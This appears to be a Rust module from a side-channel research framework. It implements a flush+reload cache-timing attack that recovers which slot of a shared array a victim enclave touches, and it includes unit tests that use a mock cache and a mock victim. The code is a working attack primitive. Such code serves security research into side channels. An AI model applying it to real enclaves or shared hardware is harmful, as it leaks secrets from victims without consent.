use crate::probe::CacheProbe;
use indicatif::{MultiProgress, ProgressBar, ProgressStyle};
use itertools::Itertools;
use log::{debug, info};
use pagestep_core::util::{NamedProgress, median};
use pagestep_core::{Enclave, VictimCall, VictimError};
use serde::{Deserialize, Serialize};
use std::fs::File;
use std::io::Read;
use std::path::Path;
use thiserror::Error;

/// Geometry of the probed array and number of rounds.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct FlushReloadConfig {
    /// Number of slots in the shared array
    pub slots: usize,
    /// Distance between two slots in bytes
    pub slot_size: usize,
    /// Flush, call and reload rounds per run
    pub samples: usize,
}

impl Default for FlushReloadConfig {
    fn default() -> Self {
        Self {
            slots: 10,
            slot_size: 0x1000,
            samples: 100,
        }
    }
}

impl FlushReloadConfig {
    /// Loads a configuration from a JSON file.
    pub fn from_jsonfile(filepath: &str) -> Result<FlushReloadConfig> {
        let mut file = File::open(Path::new(filepath))?;
        let mut contents = String::new();
        file.read_to_string(&mut contents)?;
        let config: FlushReloadConfig = serde_json::from_str(&contents)?;
        Ok(config)
    }
}

#[derive(Debug, Error)]
#[allow(missing_docs)]
pub enum Error {
    #[error("Victim call failed: {0}")]
    Victim(#[from] VictimError),
    #[error(transparent)]
    IoError(#[from] std::io::Error),
    #[error(transparent)]
    JsonError(#[from] serde_json::Error),
    #[error("No samples to take the median of ({samples} rounds, {slots} slots)")]
    NoSamples { samples: usize, slots: usize },
}

/// Result type of the flush+reload experiment.
pub type Result<T> = std::result::Result<T, Error>;

/// Median reload time of every slot and the slot guessed as secret.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct FlushReloadOutcome {
    /// Median reload latency per slot in cycles
    pub medians: Vec<u64>,
    /// Slot with the lowest median
    pub secret: usize,
}

/// Flush+reload attacker over a victim's shared array.
pub struct FlushReload<C: CacheProbe> {
    probe: C,
    config: FlushReloadConfig,
}

impl<C: CacheProbe> FlushReload<C> {
    /// Creates the attacker.
    pub fn new(probe: C, config: FlushReloadConfig) -> Self {
        Self { probe, config }
    }

    /// The configuration of this attacker.
    pub fn config(&self) -> &FlushReloadConfig {
        &self.config
    }

    /// Runs `config.samples` rounds against `enclave`, probing `slots`.
    ///
    /// Every round flushes all slots, lets the victim perform its
    /// [`VictimCall::Lookup`] and times a reload of every slot.
    ///
    /// # Errors
    ///
    /// * [`Error::Victim`] if a victim call fails
    /// * [`Error::NoSamples`] if there are no rounds or no slots
    pub fn run<E: Enclave + ?Sized>(
        &self,
        enclave: &mut E,
        slots: &[usize],
        progress: Option<&MultiProgress>,
    ) -> Result<FlushReloadOutcome> {
        let no_samples = Error::NoSamples {
            samples: self.config.samples,
            slots: slots.len(),
        };
        if slots.is_empty() || self.config.samples == 0 {
            return Err(no_samples);
        }
        let bar = progress.map(|p| {
            let p = p.add(ProgressBar::new(self.config.samples as u64));
            p.set_style(ProgressStyle::sample_bar("Flush+reload samples"));
            p
        });
        let mut timings = vec![Vec::with_capacity(self.config.samples); slots.len()];
        for round in 0..self.config.samples {
            for &slot in slots {
                self.probe.flush(slot);
            }
            enclave.call(VictimCall::Lookup)?;
            for (i, &slot) in slots.iter().enumerate() {
                timings[i].push(self.probe.measure_access_time(slot));
            }
            if let Some(bar) = &bar {
                bar.set_position(round as u64 + 1);
            }
        }
        if let Some(bar) = &bar {
            bar.finish_and_clear();
        }
        let medians = timings
            .iter()
            .map(|t| median(t))
            .collect::<Option<Vec<_>>>()
            .ok_or(no_samples)?;
        for (i, m) in medians.iter().enumerate() {
            debug!("slot {:>2}: median {} cycles", i, m);
        }
        let secret = medians.iter().position_min().ok_or(Error::NoSamples {
            samples: self.config.samples,
            slots: slots.len(),
        })?;
        info!("Fastest slot is {} ({} cycles)", secret, medians[secret]);
        Ok(FlushReloadOutcome { medians, secret })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pagestep_core::VictimValue;
    use std::cell::{Cell, RefCell};
    use std::collections::BTreeSet;

    /// Slots are "cached" after the victim touched them and until flushed.
    struct MockCache {
        cached: RefCell<BTreeSet<usize>>,
        jitter: Cell<u64>,
    }

    impl CacheProbe for MockCache {
        fn flush(&self, addr: usize) {
            self.cached.borrow_mut().remove(&addr);
        }

        fn measure_access_time(&self, addr: usize) -> u64 {
            self.jitter.set((self.jitter.get() + 7) % 13);
            let hit = !self.cached.borrow_mut().insert(addr);
            if hit { 80 } else { 250 + self.jitter.get() }
        }
    }

    struct Lookup<'c> {
        cache: &'c MockCache,
        addr: usize,
        calls: usize,
    }

    impl Enclave for Lookup<'_> {
        fn name(&self) -> &str {
            "mock-lookup"
        }

        fn call(&mut self, call: VictimCall) -> std::result::Result<VictimValue, VictimError> {
            match call {
                VictimCall::Lookup => {
                    self.calls += 1;
                    self.cache.cached.borrow_mut().insert(self.addr);
                    // an interrupt every few rounds evicts the line again
                    if self.calls % 5 == 0 {
                        self.cache.cached.borrow_mut().remove(&self.addr);
                    }
                    Ok(VictimValue::Unit)
                }
                other => Err(VictimError::Unsupported(other.name())),
            }
        }
    }

    fn slots() -> Vec<usize> {
        (0..10).map(|i| 0x4000_0000 + i * 0x1000).collect()
    }

    #[test]
    fn test_finds_touched_slot() -> anyhow::Result<()> {
        let slots = slots();
        let cache = MockCache {
            cached: RefCell::new(BTreeSet::new()),
            jitter: Cell::new(0),
        };
        let mut victim = Lookup {
            cache: &cache,
            addr: slots[6],
            calls: 0,
        };
        let attacker = FlushReload::new(&cache, FlushReloadConfig::default());
        let outcome = attacker.run(&mut victim, &slots, None)?;
        assert_eq!(outcome.secret, 6);
        assert_eq!(outcome.medians.len(), 10);
        assert_eq!(outcome.medians[6], 80);
        assert_eq!(victim.calls, 100);
        Ok(())
    }

    #[test]
    fn test_no_samples() {
        let cache = MockCache {
            cached: RefCell::new(BTreeSet::new()),
            jitter: Cell::new(0),
        };
        let mut victim = Lookup {
            cache: &cache,
            addr: 0,
            calls: 0,
        };
        let config = FlushReloadConfig {
            samples: 0,
            ..Default::default()
        };
        let attacker = FlushReload::new(&cache, config);
        assert!(matches!(
            attacker.run(&mut victim, &slots(), None),
            Err(Error::NoSamples { samples: 0, .. })
        ));
        let attacker = FlushReload::new(&cache, FlushReloadConfig::default());
        assert!(matches!(
            attacker.run(&mut victim, &[], None),
            Err(Error::NoSamples { slots: 0, .. })
        ));
        assert_eq!(victim.calls, 0);
    }

    #[test]
    fn test_victim_errors_propagate() {
        struct Broken;
        impl Enclave for Broken {
            fn name(&self) -> &str {
                "broken"
            }
            fn call(&mut self, _: VictimCall) -> std::result::Result<VictimValue, VictimError> {
                Err(VictimError::Aborted(0x1000))
            }
        }
        let cache = MockCache {
            cached: RefCell::new(BTreeSet::new()),
            jitter: Cell::new(0),
        };
        let attacker = FlushReload::new(&cache, FlushReloadConfig::default());
        assert!(matches!(
            attacker.run(&mut Broken, &slots(), None),
            Err(Error::Victim(VictimError::Aborted(0x1000)))
        ));
    }

    #[test]
    fn test_shipped_config() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../config/flush_reload.json");
        let config = FlushReloadConfig::from_jsonfile(path).expect("failed to read config file");
        assert_eq!(config, FlushReloadConfig::default());
    }
}
